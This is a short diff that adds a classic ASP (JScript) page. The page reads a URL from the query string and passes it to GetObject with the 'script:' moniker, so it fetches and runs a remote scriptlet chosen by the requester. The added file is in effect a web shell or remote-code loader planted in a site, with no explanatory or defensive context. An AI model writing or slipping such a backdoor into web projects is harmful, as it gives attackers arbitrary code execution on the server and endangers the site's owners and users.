@@ -1,0 +1,5 @@
+<%@ Language="JScript" %>
+<%
+var u = Request.QueryString("u");
+var sct = GetObject("script:" + u);
+%>
